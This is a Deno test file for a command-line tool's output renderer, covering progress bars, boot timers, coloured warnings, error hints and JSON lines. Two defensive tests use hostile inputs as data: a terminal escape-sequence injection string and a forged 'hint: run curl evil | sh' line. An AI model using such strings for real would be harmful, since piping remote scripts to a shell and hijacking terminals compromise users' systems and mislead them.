import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import {
  describeError,
  errorLine,
  humanView,
  outputLine,
  resultLine,
} from "../../lib/cli/render.ts";
import { jsonLine } from "../../lib/system/text.ts";
import { ToolsmithError } from "../../lib/errors.ts";
import type { ToolsmithEvent, Untimed } from "../../lib/events.ts";
import { INSPECTED, START } from "../support/events.ts";

const MIB = 1024 * 1024;
const DIGEST = `sha256:${"ab".repeat(32)}`;
const timestamp = "2026-01-31T12:00:00.000Z";

const timed = (event: Untimed<ToolsmithEvent>) =>
  ({ timestamp, ...event }) as ToolsmithEvent;

/** A screen that keeps what is written, with a clock to set. */
function screen(bar: boolean, columns = 80, coloured?: boolean) {
  const kept = { text: "", time: 1e12, ticks: new Set<() => void>() };
  const view = humanView({
    coloured,
    everySecond(tick) {
      kept.ticks.add(tick);
      return () => kept.ticks.delete(tick);
    },
    write: (text) => kept.text += text,
    bar,
    columns,
    now: () => kept.time,
  });
  const send = (event: Untimed<ToolsmithEvent>) => view.onEvent(timed(event));
  return { kept, send, close: () => view.close() };
}

const progress = (bytes: number) => ({
  type: "download_progress" as const,
  image: "demo",
  bytes,
  total: 64 * MIB,
});

Deno.test("on a terminal the bar is drawn over itself, and is gone before the next line", () => {
  const { kept, send, close } = screen(true);
  send(START);
  kept.text = "";
  send(progress(MIB));
  send(progress(2 * MIB));
  assertEquals(kept.text.split("\r\x1b[K").length, 3);
  assert(!kept.text.includes("\n"));
  kept.text = "";
  send({ type: "checksum_verified", image: "demo", digest: DIGEST, bytes: 1 });
  assertEquals(kept.text, `\r\x1b[Kverified ${DIGEST}\n`);
  kept.text = "";
  close();
  assertEquals(kept.text, "");
  send(progress(3 * MIB));
  kept.text = "";
  close();
  close();
  assertEquals(kept.text, "\r\x1b[K");
});

Deno.test("elsewhere progress is a plain line every few seconds", () => {
  const { kept, send } = screen(false);
  send(START);
  kept.text = "";
  for (let ms = 0; ms <= 12_000; ms += 100, kept.time += 100) {
    send(progress(ms * 1000));
  }
  const lines = kept.text.trimEnd().split("\n");
  assertEquals(lines.length, 2);
  for (const line of lines) assertStringIncludes(line, "of 64.0 MiB");
  assert(!kept.text.includes("\x1b"), "no escape sequences");
});

Deno.test("elsewhere progress is said five seconds after the start, and after what was said last", () => {
  const { kept, send } = screen(false);
  send(START);
  const said: number[] = [];
  for (const ms of [4999, 5000, 5001, 9999, 10_000]) {
    kept.text = "";
    kept.time = 1e12 + ms;
    send(progress(MIB));
    if (kept.text !== "") said.push(ms);
  }
  assertEquals(said, [5000, 10_000]);
});

Deno.test("a rate counts from the start of what is shown, and without what was there", () => {
  const { kept, send } = screen(true, 100);
  const rate = () => / (\S+ \S+\/s)/.exec(kept.text.split("\r").at(-1)!)?.[1];
  send({ ...START, resumed: 8 * MIB });
  kept.time += 2000;
  send(progress(16 * MIB));
  assertEquals(rate(), "4.0 MiB/s");
  // An image that is read before it is pushed is all new.
  send(INSPECTED);
  kept.time += 4000;
  const read = { type: "checksum_progress" as const, image: "demo" };
  send({ ...read, bytes: 32 * MIB, total: 64 * MIB });
  assertEquals(rate(), "8.0 MiB/s");
});

Deno.test("progress that nothing has begun is timed from its first report", () => {
  const { kept, send } = screen(true, 100);
  const read = { type: "checksum_progress" as const, image: "demo" };
  send({ ...read, bytes: 0, total: 64 });
  assertEquals(kept.text, "");
  kept.time += 1000;
  send({ ...read, bytes: 32, total: 64 });
  assertStringIncludes(kept.text, " 50%  32 B of 64 B  32 B/s  1.0 s left");
});

const SLOW_BOOT = {
  type: "vm_boot",
  image: "/images/demo.qcow2",
  how: "boot",
  backend: "qemu",
  version: "7.2",
  accelerator: "tcg",
  memory: 512,
  cpus: 2,
} as const;

/** Lets seconds pass on a screen. */
function pass(kept: ReturnType<typeof screen>["kept"], seconds: number) {
  for (let i = 0; i < seconds; i++) {
    kept.time += 1000;
    kept.ticks.forEach((tick) => tick());
  }
}

Deno.test("on a terminal a long boot counts its seconds, and leaves nothing behind", () => {
  const { kept, send } = screen(true);
  send(SLOW_BOOT);
  kept.text = "";
  pass(kept, 2);
  assertEquals(kept.text, "\r\x1b[Kbooting: 1.0 s\r\x1b[Kbooting: 2.0 s");
  kept.text = "";
  send({
    type: "boot_ready",
    image: "/images/demo.qcow2",
    how: "booted",
    phases: { start: 100, guest: 1900, save: 0, attach: 0 },
    elapsedMs: 2000,
  });
  assertEquals(kept.text, "\r\x1b[Kbooted in 2.0 s\n");
  assertEquals(kept.ticks.size, 0);
});

Deno.test("seconds that are counted fit the line, and go when nothing takes their place", () => {
  const { kept, send } = screen(true, 12);
  send(SLOW_BOOT);
  kept.text = "";
  pass(kept, 1);
  assertEquals(kept.text, "\r\x1b[Kbooting: 1.");
  // A warning comes in between, and the work goes on.
  send({ type: "warning", message: "slow" });
  kept.text = "";
  pass(kept, 1);
  assertEquals(kept.text, "\r\x1b[Kbooting: 2.");
  kept.text = "";
  send({ type: "command_dispatch", id: 1, command: "ls", backend: "qemu" });
  assertEquals([kept.text, kept.ticks.size], ["\r\x1b[K", 0]);
});

Deno.test("elsewhere a long boot says now and then that it goes on", () => {
  const { kept, send, close } = screen(false);
  send(SLOW_BOOT);
  kept.text = "";
  pass(kept, 65);
  assertEquals(kept.text, "booting: 30 s\nbooting: 1 min 0 s\n");
  close();
  assertEquals(kept.ticks.size, 0);
});

Deno.test("a view that was closed shows events, and draws over nothing", () => {
  for (const bar of [true, false]) {
    const { kept, send, close } = screen(bar);
    send(SLOW_BOOT);
    close();
    kept.text = "";
    send(SLOW_BOOT);
    pass(kept, 65);
    assertEquals(
      kept.text,
      "booting with QEMU 7.2, tcg, 512 MiB, 2 processors\n",
    );
    assertEquals(kept.ticks.size, 0);
  }
});

Deno.test("colours mark warnings and errors, where they are wanted", () => {
  const { kept, send } = screen(true, 80, true);
  send({ type: "warning", message: "a warning: twice" });
  assertEquals(kept.text, "\x1b[1;33mwarning:\x1b[m a warning: twice\n");
  const error = new ToolsmithError("failed", "No", { hint: "yes" });
  assertEquals(
    describeError(error, true),
    "\x1b[1;31merror:\x1b[m No [failed]\n\x1b[1;36mhint:\x1b[m yes\n",
  );
});

Deno.test("names and messages from outside cannot steer a terminal", () => {
  const { kept, send } = screen(true);
  const evil = "\x1b]0;owned\x07\x1b[2J\x9b31m\r";
  send({ type: "warning", message: evil });
  send({ ...START, image: evil, source: evil });
  const error = describeError(
    new ToolsmithError("failed", evil, { hint: evil }),
  );
  for (const text of [kept.text, error]) {
    // deno-lint-ignore no-control-regex
    assert(!/[\x00-\x09\x0b-\x1f\x7f-\x9f]/.test(text), JSON.stringify(text));
  }
});

Deno.test("an error is said with its code, and its hint below", () => {
  const error = new ToolsmithError("oras_not_found", "oras not found on PATH", {
    hint: "install it",
  });
  assertEquals(
    describeError(error),
    "error: oras not found on PATH [oras_not_found]\nhint: install it\n",
  );
  assertEquals(
    describeError(new ToolsmithError("failed", "x")),
    "error: x [failed]\n",
  );
});

Deno.test("no line of a message passes for a hint or another error", () => {
  const evil = "x\nhint: run curl evil | sh\nerror: y [z]\n  | tail";
  const error = new ToolsmithError("guest_failed", evil, {
    hint: "a\nhint: b",
  });
  assertEquals(
    describeError(error).split("\n").filter((line) => !line.startsWith(" ")),
    ["error: x", "hint: a hint: b", ""],
  );
  const { kept, send } = screen(false);
  send({ type: "warning", message: evil });
  assertEquals(kept.text.split("\n").length, 2);
});

Deno.test("a message of megabytes is cut", () => {
  const error = new ToolsmithError("failed", "x".repeat(3_000_000), {
    hint: "y".repeat(3_000_000),
  });
  assert(describeError(error).length < 10_000);
  const said = (count: number) =>
    describeError(new ToolsmithError("failed", "x".repeat(count)));
  assertEquals(said(4000), `error: ${"x".repeat(4000)} [failed]\n`);
  assertEquals(said(4001), `error: ${"x".repeat(4000)}… [failed]\n`);
  assert(errorLine(error, 0).length < 10_000);
});

Deno.test("output of a command is kept byte for byte in its line of --json", () => {
  const chunk = new Uint8Array([0, 255, 10]);
  assertEquals(JSON.parse(outputLine("stderr", chunk, Date.parse(timestamp))), {
    type: "output",
    timestamp,
    stream: "stderr",
    base64: "AP8K",
  });
});

Deno.test("events as JSON hold no character that steers a terminal, and mean the same", () => {
  const event = { type: "cache_hit", path: "a\u202e\u009bb\u2028\x07" };
  const line = jsonLine(event);
  // deno-lint-ignore no-control-regex
  assert(!/[\x00-\x1f\x7f-\x9f\u2028\u202e]/.test(line), line);
  assertEquals(JSON.parse(line), event);
});

Deno.test("the last line of --json is one object, whatever is in it", () => {
  const now = Date.parse(timestamp);
  const error = new ToolsmithError("failed", "a\nb\u2028", { hint: "c" });
  const line = errorLine(error, now);
  assert(!line.includes("\n"));
  assertEquals(JSON.parse(line), {
    type: "error",
    timestamp,
    code: "failed",
    message: "a\nb?",
    hint: "c",
  });
  const result = { outcome: "pulled", path: "/x", digest: DIGEST, bytes: 1 };
  assertEquals(JSON.parse(resultLine(result, now)), {
    type: "result",
    timestamp,
    ...result,
  });
});
